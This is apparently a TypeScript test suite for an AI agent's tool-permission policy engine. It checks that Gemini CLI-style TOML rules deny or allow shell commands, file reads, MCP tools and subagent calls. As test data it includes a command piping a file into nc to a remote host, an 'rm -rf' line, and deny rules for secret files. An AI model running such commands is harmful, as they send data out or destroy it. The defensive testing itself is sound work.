// A policy file written for the Gemini CLI keeps its meaning here. Each case is written from the
// Gemini CLI's documented behaviour (docs/reference/policy-engine.md) and its own tests'
// assertions (packages/core/src/policy/policy-engine.test.ts, toml-loader.test.ts): where it
// denies, we deny; where we differ, we are stricter, never looser.
import { describe, expect, it } from 'vitest';
import { checkPolicy, parsePolicy } from '../../src/policy/parse-policy.js';
import { createPolicyEngine } from '../../src/policy/policy-engine.js';
import type { PolicyCall, PolicyContext } from '../../src/policy/policy-types.js';
import { analyzeShellCommand } from '../../src/policy/shell/shell-analysis.js';

const context: PolicyContext = { runMode: 'invoke', trust: 'maintainer', workspaceRoot: '/ws' };

/** An engine over one policy file, as a user would write it. */
function engineFor(toml: string) {
  return createPolicyEngine({
    rules: parsePolicy(toml, { file: 'user.toml', tier: 'workflow' }),
    analyzeShell: (command) => analyzeShellCommand(command),
  });
}

function shell(command: string, directory?: string): PolicyCall {
  return {
    toolName: 'run_shell_command',
    args: { command, ...(directory === undefined ? {} : { directory }) },
    kind: 'execute',
    locations: [],
  };
}

/** A call as the scheduler hands it to the policy: the tool's declared argument names. */
function call(toolName: string, args: Record<string, unknown>, serverName?: string): PolicyCall {
  return {
    toolName,
    args,
    kind: 'read',
    locations: [],
    ...(serverName === undefined ? {} : { serverName }),
  };
}

const ALLOW_ALL_SHELL = `
[[rule]]
toolName = "run_shell_command"
decision = "allow"
priority = 100
`;

describe('deny rules on a whole compound command', () => {
  it('denies what only the whole command matches (a pipe into nc under an allow-all)', async () => {
    const engine = engineFor(`${ALLOW_ALL_SHELL}
[[rule]]
toolName = "run_shell_command"
commandRegex = '.*\\| *nc '
decision = "deny"
priority = 200
denyMessage = "No piping into nc."
`);
    const piped = await engine.decide(shell('cat notes.txt | nc example.com 80'), context);
    expect(piped).toMatchObject({ decision: 'deny', reason: 'No piping into nc.' });
    expect(piped.decidedBy).toBe('user.toml:7:1 (workflow, priority 3.200)');
    expect((await engine.decide(shell('cat notes.txt'), context)).decision).toBe('allow');
  });

  it('respects an explicit deny of a compound command whose parts are allowed (Gemini CLI test)', async () => {
    const engine = engineFor(`
[[rule]]
toolName = "run_shell_command"
argsPattern = '"command":"git status && ls"'
decision = "deny"
priority = 30

[[rule]]
toolName = "run_shell_command"
argsPattern = '"command":"git status'
decision = "allow"
priority = 20

[[rule]]
toolName = "run_shell_command"
argsPattern = '"command":"ls'
decision = "allow"
priority = 20
`);
    expect((await engine.decide(shell('git status && ls'), context)).decision).toBe('deny');
    expect((await engine.decide(shell('git status; ls'), context)).decision).toBe('allow');
  });

  it('leaves the whole command to its parts when a higher allow matches it first', async () => {
    // As in the Gemini CLI: the first match on the whole line is the allow, and each part is then
    // judged on its own.
    const engine = engineFor(`
[[rule]]
toolName = "run_shell_command"
decision = "allow"
priority = 300

[[rule]]
toolName = "run_shell_command"
commandRegex = '.*\\| *nc '
decision = "deny"
priority = 200
`);
    expect(
      (await engine.decide(shell('cat notes.txt | nc example.com 80'), context)).decision,
    ).toBe('allow');
  });
});

describe("argsPattern on the Gemini CLI's current argument names", () => {
  const engine = engineFor(`
[[rule]]
toolName = "*"
decision = "allow"
priority = 100

[[rule]]
toolName = "read_file"
argsPattern = '"file_path":"[^"]*secret'
decision = "deny"
priority = 200

[[rule]]
toolName = ["list_directory", "glob", "search_file_content"]
argsPattern = '"dir_path":"private'
decision = "deny"
priority = 200

[[rule]]
toolName = "read_file"
argsPattern = '\\0"file_path":"notes\\.txt"\\0'
decision = "deny"
priority = 200
`);

  it('denies read_file of a secret, however the model named the argument', async () => {
    // The scheduler passes the declared name (`absolute_path`); the rule is written with the
    // Gemini CLI's `file_path`.
    const denied = await engine.decide(
      call('read_file', { absolute_path: 'config/secret.txt' }),
      context,
    );
    expect(denied.decision).toBe('deny');
    const allowed = await engine.decide(call('read_file', { absolute_path: 'README.md' }), context);
    expect(allowed.decision).toBe('allow');
  });

  it('denies listing and searching under dir_path', async () => {
    for (const tool of ['list_directory', 'glob', 'search_file_content']) {
      const verdict = await engine.decide(
        call(tool, { path: 'private/keys', pattern: 'x' }),
        context,
      );
      expect(verdict.decision, tool).toBe('deny');
    }
    expect((await engine.decide(call('list_directory', { path: 'src' }), context)).decision).toBe(
      'allow',
    );
  });

  it("finds a pattern written with the Gemini CLI's field markers (\\0 around each argument)", async () => {
    expect(
      (await engine.decide(call('read_file', { absolute_path: 'notes.txt' }), context)).decision,
    ).toBe('deny');
    expect(
      (await engine.decide(call('read_file', { absolute_path: 'notes.txt.bak' }), context))
        .decision,
    ).toBe('allow');
  });

  it('still matches our own names', async () => {
    const ours = engineFor(`
[[rule]]
toolName = "*"
decision = "allow"
priority = 100

[[rule]]
toolName = "run_shell_command"
argsPattern = '"directory":"vendor'
decision = "deny"
priority = 200
`);
    expect((await ours.decide(shell('ls', 'vendor/lib'), context)).decision).toBe('deny');
  });
});

describe('commandRegex anchoring', () => {
  it('does not allow with ^, which never matches in the Gemini CLI (toml-loader test)', async () => {
    const engine = engineFor(`
[[rule]]
toolName = "run_shell_command"
commandRegex = "^git status"
decision = "allow"
priority = 100
`);
    expect((await engine.decide(shell('git status'), context)).decision).toBe('deny');
  });

  it('does not allow with $, which only matches at the end of the JSON there', async () => {
    const engine = engineFor(`
[[rule]]
toolName = "run_shell_command"
commandRegex = "git status$"
decision = "allow"
priority = 100
`);
    expect((await engine.decide(shell('git status'), context)).decision).toBe('deny');
  });

  it('allows from the start of the command, as "git (status|log).*" does there', async () => {
    const engine = engineFor(`
[[rule]]
toolName = "run_shell_command"
commandRegex = "git (status|log).*"
decision = "allow"
priority = 100
`);
    expect((await engine.decide(shell('git status'), context)).decision).toBe('allow');
    expect((await engine.decide(shell('git log --all'), context)).decision).toBe('allow');
    expect((await engine.decide(shell('git branch'), context)).decision).toBe('deny');
  });

  it('denies with ^ in our reading, where the Gemini CLI would not (stricter)', async () => {
    const engine = engineFor(`${ALLOW_ALL_SHELL}
[[rule]]
toolName = "run_shell_command"
commandRegex = "^rm "
decision = "deny"
priority = 200
`);
    expect((await engine.decide(shell('rm -rf build'), context)).decision).toBe('deny');
  });
});

describe('MCP server wildcards need the server in the tool name (Gemini CLI tests)', () => {
  const engine = engineFor(`
[[rule]]
toolName = "mcp_safe_server_*"
mcpName = "safe_server"
decision = "allow"
priority = 100

[[rule]]
mcpName = "my-server"
toolName = "*"
decision = "allow"
priority = 100
`);

  it('does not allow a tool of the server whose name is dressed as another server’s', async () => {
    const verdict = await engine.decide(call('mcp_other_server_tool', {}, 'safe_server'), context);
    expect(verdict.decision).toBe('deny');
    const other = await engine.decide(call('other_server__tool', {}, 'my-server'), context);
    expect(other.decision).toBe('deny');
  });

  it("allows the server's tools under their own names", async () => {
    expect(
      (await engine.decide(call('mcp_safe_server_tool', {}, 'safe_server'), context)).decision,
    ).toBe('allow');
    // Offered under its plain name, as this agent offers MCP tools.
    expect((await engine.decide(call('search', {}, 'safe_server'), context)).decision).toBe(
      'allow',
    );
    expect(
      (await engine.decide(call('my-server__search', {}, 'my-server'), context)).decision,
    ).toBe('allow');
  });

  it('does not match a spoofed server', async () => {
    const spoofed = await engine.decide(
      call('mcp_mcp_safe_server_malicious_tool', {}, 'mcp_safe_server_malicious'),
      context,
    );
    expect(spoofed.decision).toBe('deny');
  });

  it('still denies every tool of the server with a deny wildcard', async () => {
    const denying = engineFor(`
[[rule]]
toolName = "*"
decision = "allow"
priority = 100

[[rule]]
toolName = "mcp_safe_server_*"
decision = "deny"
priority = 200
`);
    const verdict = await denying.decide(call('mcp_other_server_tool', {}, 'safe_server'), context);
    expect(verdict.decision).toBe('deny');
  });
});

describe('what the Gemini CLI accepts loads here too', () => {
  it('loads [[safety_checker]] tables and says they are not run', () => {
    const checked = checkPolicy(
      `
[[rule]]
toolName = "read_file"
decision = "allow"
priority = 100

[[safety_checker]]
toolName = "write_file"
priority = 100
[safety_checker.checker]
type = "in-process"
name = "allowed-path"

[[safety_checker]]
toolName = "*"
[safety_checker.checker]
type = "external"
name = "my-checker"
`,
      { file: 'user.toml', tier: 'workflow' },
    );
    expect(checked.problems).toEqual([]);
    expect(checked.rules).toHaveLength(1);
    expect(checked.warnings.map((warning) => [warning.line, warning.message])).toEqual([
      [10, expect.stringContaining('the safety checker "allowed-path" is not run here') as string],
      [
        16,
        expect.stringContaining(
          'the external safety checker "my-checker" is not run here',
        ) as string,
      ],
    ]);
  });

  it('refuses a safety checker without toolName, as the Gemini CLI does', () => {
    const checked = checkPolicy(
      `
[[safety_checker]]
priority = 100
[safety_checker.checker]
type = "in-process"
name = "allowed-path"
`,
      { file: 'user.toml', tier: 'workflow' },
    );
    expect(checked.problems.map((problem) => problem.message)).toEqual([
      expect.stringContaining('has no toolName') as string,
    ]);
  });

  it('loads a rule with its own [rule.safety_checker] table, and keeps the rule', () => {
    const checked = checkPolicy(
      `
[[rule]]
toolName = "write_file"
decision = "allow"
priority = 100
[rule.safety_checker]
type = "in-process"
name = "allowed-path"
`,
      { file: 'user.toml', tier: 'workflow' },
    );
    expect(checked.problems).toEqual([]);
    expect(checked.rules).toHaveLength(1);
    expect(checked.warnings).toHaveLength(1);
  });

  it('warns about keys the Gemini CLI ignores, such as name, and keeps the rule', async () => {
    const toml = `
[[rule]]
name = "block secrets"
toolName = "read_file"
argsPattern = 'secret'
decision = "deny"
priority = 100
`;
    const checked = checkPolicy(toml, { file: 'user.toml', tier: 'workflow' });
    expect(checked.problems).toEqual([]);
    expect(
      checked.warnings.map((warning) => [warning.line, warning.column, warning.message]),
    ).toEqual([
      [
        3,
        1,
        'the field "name" is not a rule condition; it is ignored, as the Gemini CLI ignores it',
      ],
    ]);
    const engine = engineFor(toml);
    expect(
      (await engine.decide(call('read_file', { absolute_path: 'secret' }), context)).decision,
    ).toBe('deny');
  });

  it('keeps a misspelt condition an error: ignoring it would widen the rule', () => {
    const checked = checkPolicy(
      `
[[rule]]
toolName = "write_file"
argsPatern = '"file_path":"docs/'
decision = "allow"
priority = 100
`,
      { file: 'user.toml', tier: 'workflow' },
    );
    expect(checked.problems.map((problem) => problem.message)).toEqual([
      'unknown field "argsPatern" in [[rule]]; did you mean "argsPattern"?',
    ]);
  });

  it('applies a subagent rule to the calls of that subagent only', async () => {
    const toml = `
[[rule]]
toolName = "run_shell_command"
subagent = "codebase_investigator"
decision = "allow"
priority = 100
`;
    const checked = checkPolicy(toml, { file: 'user.toml', tier: 'workflow' });
    expect(checked.problems).toEqual([]);
    expect(checked.warnings).toEqual([]);
    const engine = engineFor(toml);
    expect((await engine.decide(shell('ls'), context)).decision).toBe('deny');
    const investigator = { ...context, subagent: 'codebase_investigator' };
    expect((await engine.decide(shell('ls'), investigator)).decision).toBe('allow');
    const other = { ...context, subagent: 'security-auditor' };
    expect((await engine.decide(shell('ls'), other)).decision).toBe('deny');
  });

  it('denies a subagent by its name, called as its own tool or through invoke_agent', async () => {
    const toml = `
[[rule]]
toolName = "invoke_agent"
decision = "allow"
priority = 50

[[rule]]
toolName = "codebase_investigator"
decision = "deny"
priority = 500
denyMessage = "No investigations in this repository."
`;
    const engine = engineFor(toml);
    const agentCall = (toolName: string, args: Record<string, unknown>) => ({
      toolName,
      args,
      kind: 'agent' as const,
      locations: [],
    });
    const direct = await engine.decide(
      agentCall('codebase_investigator', { objective: 'x' }),
      context,
    );
    expect(direct).toMatchObject({
      decision: 'deny',
      reason: 'No investigations in this repository.',
    });
    const viaInvoke = await engine.decide(
      agentCall('invoke_agent', { agent_name: 'codebase_investigator', prompt: 'x' }),
      context,
    );
    expect(viaInvoke.decision).toBe('deny');
    const other = await engine.decide(agentCall('security-auditor', { query: 'x' }), context);
    expect(other.decision).toBe('allow');
    expect(
      engine.isUnconditionallyDenied({ name: 'codebase_investigator', kind: 'agent' }, context),
    ).toBe(true);
    expect(
      engine.isUnconditionallyDenied({ name: 'security-auditor', kind: 'agent' }, context),
    ).toBe(false);
    // A tool of another kind named like an agent is not covered by invoke_agent rules.
    expect(
      engine.isUnconditionallyDenied({ name: 'security-auditor', kind: 'read' }, context),
    ).toBe(true);
  });
});
